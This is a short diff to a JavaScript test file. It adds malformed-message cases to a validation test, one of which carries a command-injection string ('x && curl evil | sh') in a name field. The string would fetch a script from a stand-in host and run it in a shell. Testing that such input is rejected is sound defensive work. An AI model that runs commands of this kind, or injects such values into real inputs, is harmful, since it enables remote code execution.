@@ -32,6 +32,10 @@ for (const [what, message] of Object.entries({
   "frames that are no list": { ...finished, frames: 7 },
   "a line before the first": { ...finished, frames: [{ file: "a.py", line: -1 }] },
   "very many frames": { ...finished, frames: Array(10_000).fill(finished.frames[0]) },
+  "a kind that reads like one": { ...finished, kind: ["finished"] },
+  "a total of nothing": { kind: "progress", phase: "start", loaded: 0, total: 0 },
+  "more output than passes": { kind: "output", stream: "stdout", text: "x".repeat(100_001) },
+  "a name that is more than one": { ...finished, missing: "x && curl evil | sh" },
   "a name too long to read": { ...finished, missing: "x".repeat(10_000) },
 })) {
   test(`a message that nobody honest sends breaks the run: ${what}`, () => {
